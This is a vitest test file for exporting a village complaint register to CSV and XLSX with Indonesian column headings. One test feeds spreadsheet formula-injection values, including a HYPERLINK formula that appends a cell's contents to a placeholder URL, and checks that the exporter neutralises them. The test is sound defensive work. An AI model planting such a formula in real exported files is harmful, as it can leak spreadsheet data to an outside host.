import { importBookCsv } from '@buku/core/import/csv';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { complaintFromData } from '../cases/model';
import {
  REGISTER_HEADERS,
  registerCells,
  registerFileName,
  registerRows,
  summaryOf,
  type MonthEntry
} from './columns';
import ExcelJS from 'exceljs';
import { registerCsv, registerXlsx } from './files';

const at = (iso: string) => ({ toDate: () => new Date(iso) });

function entry(id: string, data: Record<string, unknown>, name: string | null): MonthEntry {
  return {
    complaint: complaintFromData(id, {
      ccId: 'sandik',
      sector: 'kesehatan',
      providerName: 'Puskesmas Meninting',
      location: { desa: 'Sandik' },
      chronology: 'Pasien diminta membayar untuk layanan yang seharusnya gratis.',
      status: 'diterima',
      ...data
    }),
    complainantName: name
  };
}

const DEC = [
  // Stored newest first (the query's order); the register is by receipt.
  entry(
    'b',
    {
      registerNumber: '002/CC-SA/XII/2026',
      // 1 Dec 17:30 UTC is already 2 Dec in Lombok (WITA).
      receivedAt: at('2026-12-01T17:30:00Z'),
      sector: 'administrasi_kependudukan',
      providerName: 'Dukcapil Lombok Barat',
      location: { desa: 'Sandik', dusun: 'Montong' },
      status: 'ditindaklanjuti'
    },
    null
  ),
  entry(
    'a',
    { registerNumber: '001/CC-SA/XII/2026', receivedAt: at('2026-12-01T01:00:00Z') },
    'Baiq Nurhayati'
  )
];

describe('the register columns', () => {
  it('are the paper register’s, with Indonesian headings', () => {
    expect(REGISTER_HEADERS).toEqual([
      'Nomor register',
      'Tanggal diterima',
      'Nama pelapor',
      'Desa',
      'Sektor',
      'Penyelenggara',
      'Ringkasan pengaduan',
      'Status'
    ]);
  });

  it('give one row per complaint in order of receipt, WITA dates, core labels', () => {
    expect(registerRows(DEC)).toEqual([
      {
        registerNumber: '001/CC-SA/XII/2026',
        receivedDate: '2026-12-01',
        complainant: 'Baiq Nurhayati',
        desa: 'Sandik',
        sector: 'Kesehatan',
        provider: 'Puskesmas Meninting',
        summary: 'Pasien diminta membayar untuk layanan yang seharusnya gratis.',
        status: 'Diterima'
      },
      {
        registerNumber: '002/CC-SA/XII/2026',
        receivedDate: '2026-12-02',
        complainant: '',
        desa: 'Sandik (Montong)',
        sector: expect.stringMatching(/Kependudukan/i),
        provider: 'Dukcapil Lombok Barat',
        summary: 'Pasien diminta membayar untuk layanan yang seharusnya gratis.',
        status: expect.stringMatching(/tindak/i)
      }
    ]);
    expect(registerRows(DEC, 'en')[0]).toMatchObject({ sector: 'Health', status: 'Received' });
  });

  it('cuts a long chronology at a word for the summary', () => {
    const long = 'kata '.repeat(100);
    const summary = summaryOf(long, 40);
    expect(summary.length).toBeLessThanOrEqual(40);
    expect(summary.endsWith('kata…')).toBe(true);
    expect(summaryOf('  pendek\n  saja ')).toBe('pendek saja');
  });

  it('writes the same cells to CSV, with a BOM and semicolons, that papaparse reads back', () => {
    const csv = registerCsv(registerRows(DEC));
    expect(csv.startsWith('\uFEFFNomor register;Tanggal diterima;Nama pelapor;')).toBe(true);
    const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true });
    expect(parsed.data[0]).toEqual(REGISTER_HEADERS);
    expect(parsed.data.slice(1)).toEqual(registerCells(registerRows(DEC)));
    // core's book import finds its required date and village columns in our headings.
    const back = importBookCsv(csv.slice(1));
    expect(back.fileProblems.map((p) => p.column)).not.toContain('tanggal_diterima');
    expect(back.fileProblems.map((p) => p.column)).not.toContain('desa');
  });

  it('keeps cells that look like spreadsheet formulas as text in the CSV', () => {
    const row = {
      registerNumber: '001/CC-SA/XII/2026',
      receivedDate: '2026-12-01',
      complainant: '@Tester',
      desa: 'Sandik',
      sector: 'Kesehatan',
      provider: '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
      summary: '+SUM(1+1)',
      status: 'Diterima'
    };
    const parsed = Papa.parse<string[]>(registerCsv([row]).slice(1), { delimiter: ';' });
    const cells = parsed.data[1]!;
    expect(cells[2]).toBe("'@Tester");
    expect(cells[5]).toBe(`'${row.provider}`);
    expect(cells[6]).toBe("'+SUM(1+1)");
    expect(cells[0]).toBe('001/CC-SA/XII/2026');
  });

  it('has no name column at all in files without names', async () => {
    const csv = registerCsv(registerRows(DEC), false);
    expect(csv.startsWith('\uFEFFNomor register;Tanggal diterima;Desa;')).toBe(true);
    const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true });
    expect(parsed.data[0]).not.toContain('Nama pelapor');
    expect(parsed.data[1]).toHaveLength(REGISTER_HEADERS.length - 1);
    const blob = await registerXlsx(registerRows(DEC), 'Buku', false);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await blob.arrayBuffer());
    expect((workbook.worksheets[0]!.getRow(2).values as unknown[]).slice(1)).toEqual(parsed.data[0]);
  });

  it('writes the same cells to XLSX on an A4 landscape sheet', async () => {
    const blob = await registerXlsx(registerRows(DEC), 'Buku Pengaduan CC Saling Anton — 2026-12');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await blob.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).getCell(1).value).toBe('Buku Pengaduan CC Saling Anton — 2026-12');
    expect((sheet.getRow(2).values as unknown[]).slice(1)).toEqual(REGISTER_HEADERS);
    expect((sheet.getRow(3).values as unknown[]).slice(1)).toEqual(registerCells(registerRows(DEC))[0]);
    expect(sheet.rowCount).toBe(4);
    expect(sheet.pageSetup.orientation).toBe('landscape');
    expect(sheet.pageSetup.paperSize).toBe(9);
  });

  it('names the file by CC and month', () => {
    expect(registerFileName('sandik', '2026-12', 'xlsx')).toBe('buku-pengaduan-sandik-2026-12.xlsx');
  });
});
